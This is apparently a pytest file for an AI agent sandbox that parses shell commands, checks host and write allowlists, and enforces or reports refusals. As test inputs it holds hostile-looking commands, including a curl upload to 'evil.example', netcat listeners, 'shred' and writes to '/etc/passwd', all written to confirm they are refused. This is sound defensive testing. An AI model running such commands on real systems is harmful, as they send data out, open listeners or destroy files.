from __future__ import annotations

import json
import os
import tempfile
from collections.abc import Iterator, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from socket import socket
from typing import Literal

import anyio
import pytest

from skvm.errors import InfrastructureError, UsageError
from skvm.harness.confine import choose_sandbox
from skvm.harness.permissions import (
    Grant,
    Permission,
    PermissionMode,
    Permissions,
    hosts_of,
    load_permissions,
    policy_for,
    programs_of,
    task_files,
)
from skvm.harness.permitted import held_to
from skvm.harness.sandbox import Cell, Entry, Execution, Fetched, Policy, Streams


def named(*names: str) -> tuple[Permission, ...]:
    return tuple(Permission(name=name) for name in names)


def grant(
    mode: PermissionMode = "enforce",
    *,
    write: Sequence[str] = (),
    commands: Sequence[str] = (),
    hosts: Sequence[str] = (),
    files: Sequence[str] = (),
) -> Grant:
    network: Literal["none", "listed", "any"] = "any" if "*" in hosts else "listed" if hosts else "none"
    permissions = Permissions(
        skill="s", write=named(*write), commands=named(*commands), hosts=named(*hosts), network=network
    )
    return Grant(permissions, mode, tuple(files))


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("curl -s x | jq .a", "curl jq"),
        ("cd out && FOO=1 make all; ls", "make ls"),
        ("for f in *; do convert $f; done", "convert"),
        ("if true; then sudo apt install x; fi", "true sudo apt"),
        ("cat > a.sh <<'EOF'\nwget evil\nEOF\nbash a.sh", "cat bash"),
        ("cat <<EOF | curl -d @- x\nit's # `wget`\nEOF\nls", "cat curl ls"),
        ("echo '<<X'; curl x\nX=1 wc", "echo curl wc"),
        ("echo 'unclosed", "echo"),
        ("# it's a look\nls -l # wget x", "ls"),
        ("ls 2>&1 | head >&2; 2>/dev/null wc a", "ls head wc"),
        ("python3 a.py \\\n  --out b", "python3"),
        ("echo $((1 + 2)); ((x++))", "echo"),
        ("env A=1 curl x; xargs -n1 wget < a; timeout 5 nc x", "env curl xargs wget timeout nc"),
        ("bash -lc 'curl x'; eval 'nc y'", "bash curl nc"),
        ('echo "$(curl x)" `nc y`', "echo curl nc"),
        ("find . -name a -exec shred {} ;", "find shred"),
        ("diff <(sort a) <(/usr/bin/curl x)", "diff sort /usr/bin/curl"),
        ("command -p od x; exec -a ls nc y; time -p wc", "od nc wc"),
        ("command -v curl && echo there", "echo"),
        (["sh", "-c", "nc -l 1"], "sh nc"),
        (["python3", "-c", "1"], "python3"),
        (["sudo"] * 5000, "sudo"),
    ],
)
def test_the_programs_of_a_command(command: str | list[str], programs: str) -> None:
    assert programs_of(command) == tuple(sorted(programs.split()))


def test_the_hosts_of_a_command() -> None:
    line = (
        "sh -c 'curl -s https://u:p@a.example/x' && git clone ssh://git@b.example/y; echo https://c.example"
    )
    assert hosts_of(line) == ("a.example", "b.example")


def test_a_line_with_a_path_of_its_own_is_looked_at_closer(tmp_path: Path) -> None:
    fake, notes = FakeCell(), list[str]()

    @asynccontextmanager
    async def opening(_: Policy):  # type: ignore[no-untyped-def]
        yield fake

    async def run() -> list[int | None]:
        async with held_to(grant(), Policy(work_dir=tmp_path), opening, notes) as cell:
            lines = ["copied x", "PATH=.:$PATH copied x", "sh -c '/usr/bin/od x'"]
            return [(await cell.execute(line, timeout_s=1)).exit_code for line in lines]

    assert anyio.run(run) == [0, 126, 126]


def test_a_host_beyond_the_list_is_refused_in_a_command_too(tmp_path: Path) -> None:
    fake, notes = FakeCell(), list[str]()

    @asynccontextmanager
    async def opening(_: Policy):  # type: ignore[no-untyped-def]
        yield fake

    async def run() -> list[int | None]:
        held = grant(commands=["curl"], hosts=["example.org"])
        async with held_to(held, Policy(work_dir=tmp_path), opening, notes) as cell:
            lines = ["curl https://api.example.org/a", "curl -d @b https://evil.example/a"]
            return [(await cell.execute(line, timeout_s=1)).exit_code for line in lines]

    assert anyio.run(run) == [0, 126]
    assert notes == ["permissions: host evil.example refused"]


@pytest.mark.parametrize(
    ("path", "names", "permitted"),
    [
        ("out.md", ["out.md"], True),
        ("./out.md", ["out.md"], True),
        ("other.md", ["out.md"], False),
        ("pages/page_3.pdf", ["pages/page_*.pdf"], True),
        ("out/deep/x.txt", ["out/"], True),
        ("anything.txt", ["*"], True),
        ("/etc/passwd", ["*"], False),
        ("../x", ["*"], False),
    ],
)
def test_what_may_be_written(path: str, names: list[str], permitted: bool) -> None:
    assert grant(write=names).permits_write(path) is permitted


def test_the_task_may_name_files_too() -> None:
    files = task_files("Write the sum to result.json and the table to out/table.csv.")
    assert files == ("result.json", "out/table.csv")
    assert grant(files=files).permits_write("result.json")


@pytest.mark.parametrize(
    ("host", "hosts", "permitted"),
    [
        ("api.example.org", ["example.org"], True),
        ("example.org", ["example.org"], True),
        ("badexample.org", ["example.org"], False),
        ("x.org", ["*"], True),
        ("x.org", [], False),
    ],
)
def test_which_hosts_may_be_reached(host: str, hosts: list[str], permitted: bool) -> None:
    assert grant(hosts=hosts).permissions.permits_host(host) is permitted


def test_a_policy_is_never_widened(tmp_path: Path) -> None:
    policy = Policy(work_dir=tmp_path / "work", network=False)
    made = policy_for(grant(hosts=["*"], write=["out/a.txt"]), policy, tmp_path)
    assert made.network is False
    assert made.writable == (tmp_path / "work" / "out",)


def test_enforced_policy_has_no_network_and_few_programs(tmp_path: Path) -> None:
    programs = tmp_path / "programs"
    programs.mkdir()
    policy = Policy(work_dir=tmp_path / "work", network=True)
    made = policy_for(grant(commands=["python3"], write=["a.txt"]), policy, programs)
    assert made.network is False
    assert made.env["PATH"] == str(programs)
    names = {path.name for path in programs.iterdir()}
    assert {"sh", "cat", "python3"} <= names
    assert "curl" not in names
    assert made.writable is None


def test_a_report_changes_nothing(tmp_path: Path) -> None:
    policy = Policy(work_dir=tmp_path, network=True)
    assert policy_for(grant("report"), policy, tmp_path) is policy


def test_a_record_is_read_or_refused(tmp_path: Path) -> None:
    assert load_permissions(tmp_path) is None
    record = grant(commands=["jq"]).permissions
    (tmp_path / "permissions.json").write_text(record.model_dump_json(by_alias=True))
    assert load_permissions(tmp_path) == record
    (tmp_path / "permissions.json").write_text(json.dumps({"schema": 2, "skill": "s"}))
    with pytest.raises(UsageError, match="not a permissions record"):
        load_permissions(tmp_path)


def test_what_is_no_file_or_too_large_is_no_record(tmp_path: Path) -> None:
    path = tmp_path / "permissions.json"
    os.mkfifo(path)
    with pytest.raises(UsageError, match="not a permissions record"):
        load_permissions(tmp_path)
    path.unlink()
    path.write_bytes(b" " * ((16 << 20) + 1))
    with pytest.raises(UsageError, match="over 16 MiB"):
        load_permissions(tmp_path)
    path.write_text(json.dumps({"schema": 1, "skill": "s", "write": [{"name": "a\0b/c"}]}))
    with pytest.raises(UsageError, match="not a permissions record"):
        load_permissions(tmp_path)


@dataclass
class FakeCell:
    """Remembers what reached it."""

    seen: list[str] = field(default_factory=list)
    listeners: Sequence[socket] = ()

    async def execute(
        self,
        command: str | Sequence[str],
        *,
        timeout_s: float,
        stdin: bytes = b"",
        env: Mapping[str, str] | None = None,
        cwd: str = ".",
    ) -> Execution:
        self.seen.append(f"execute {command}")
        return Execution(0, "", "", False, False, 0.0)

    async def stream(
        self,
        argv: Sequence[str],
        streams: Streams,
        *,
        timeout_s: float,
        stdin: bytes = b"",
        env: Mapping[str, str] | None = None,
        cwd: str = ".",
    ) -> Execution:
        self.seen.append(f"stream {argv[0]}")
        return Execution(0, "", "", False, False, 0.0)

    async def read(self, path: str, *, max_bytes: int = 4 << 20) -> bytes:
        self.seen.append(f"read {path}")
        return b""

    async def write(self, path: str, data: bytes) -> None:
        self.seen.append(f"write {path}")

    async def list(self, path: str = ".") -> Sequence[Entry]:
        return ()

    async def fetch(
        self,
        url: str,
        *,
        method: str = "GET",
        headers: Mapping[str, str] | None = None,
        body: bytes | None = None,
        timeout_s: float = 30.0,
    ) -> Fetched:
        self.seen.append(f"fetch {url}")
        return Fetched(200, {}, "", False)


def misbehaving(mode: PermissionMode, work: Path) -> tuple[list[str], list[str]]:
    """What a cell saw, and the notes, of a run that does three things that are not permitted."""
    fake, notes = FakeCell(), list[str]()

    @asynccontextmanager
    async def opening(_: Policy):  # type: ignore[no-untyped-def]
        yield fake

    async def run() -> None:
        policy = Policy(work_dir=work, network=True)
        async with held_to(grant(mode, write=["ok.txt"]), policy, opening, notes) as cell:
            await cell.execute("# look\ncat a 2>&1 | od; no-such-program", timeout_s=1)
            for action in (cell.write("bad.txt", b""), cell.fetch("https://example.org/")):
                try:
                    await action
                except PermissionError:
                    continue
            await cell.write(f"{work}/ok.txt", b"")
            await cell.fetch("http://localhost:8000/")

    anyio.run(run)
    return fake.seen, notes


def test_enforced_refuses_and_tells(tmp_path: Path) -> None:
    seen, notes = misbehaving("enforce", tmp_path)
    assert seen == [f"write {tmp_path}/ok.txt", "fetch http://localhost:8000/"]
    assert [note.split(" refused")[0] for note in notes] == [
        "permissions: program od",
        "permissions: writing bad.txt",
        "permissions: host example.org",
    ]


def test_a_report_lets_through_and_tells(tmp_path: Path) -> None:
    seen, notes = misbehaving("report", tmp_path)
    assert len(seen) == 5
    assert len(notes) == 3
    assert all("let through" in note for note in notes)


def test_off_is_silent(tmp_path: Path) -> None:
    seen, notes = misbehaving("off", tmp_path)
    assert (len(seen), notes) == (5, [])


@pytest.fixture
def open_folder() -> Iterator[Path]:
    """A folder another user can pass into, as a cell's own user must."""
    with tempfile.TemporaryDirectory() as folder:
        Path(folder).chmod(0o755)
        yield Path(folder)


@pytest.mark.parametrize("name", ["bubblewrap", "landlock"])
def test_a_real_cell_is_held(open_folder: Path, name: str) -> None:
    try:
        sandbox = choose_sandbox(name)
    except InfrastructureError as error:
        pytest.skip(error.message)
    work = open_folder / "work"
    work.mkdir()
    (work / "note.txt").write_text("here")
    notes: list[str] = []

    async def run(cell: Cell) -> list[Execution]:
        lines = [
            "cat note.txt",
            "echo x > out/a.txt && cat out/a.txt",
            "echo x > top.txt",
            "command -v curl",
            "python3 -c 'print(6 * 7)'",
        ]
        return [await cell.execute(line, timeout_s=20) for line in lines]

    async def held() -> list[Execution]:
        policy = Policy(work_dir=work, network=True)
        async with held_to(
            grant(write=["out/a.txt"], commands=["python3"]), policy, sandbox.open, notes
        ) as cell:
            return await run(cell)

    read, written, refused, missing, permitted = anyio.run(held)
    assert (read.stdout, read.exit_code) == ("here", 0)
    assert written.stdout == "x\n"
    assert refused.exit_code != 0
    assert missing.stdout == ""
    assert permitted.stdout == "42\n"
    assert not (work / "top.txt").exists()


def test_a_link_out_of_the_work_directory_is_not_made_writable(open_folder: Path) -> None:
    try:
        sandbox = choose_sandbox("auto")
    except InfrastructureError as error:
        pytest.skip(error.message)
    work, outside = open_folder / "work", open_folder / "outside"
    work.mkdir()
    outside.mkdir()
    (work / "out").symlink_to(outside)

    async def held() -> None:
        async with held_to(grant(write=["out/a.txt"]), Policy(work_dir=work), sandbox.open, []) as cell:
            await cell.execute("true", timeout_s=20)

    with pytest.raises(InfrastructureError, match="leads out of the work directory"):
        anyio.run(held)
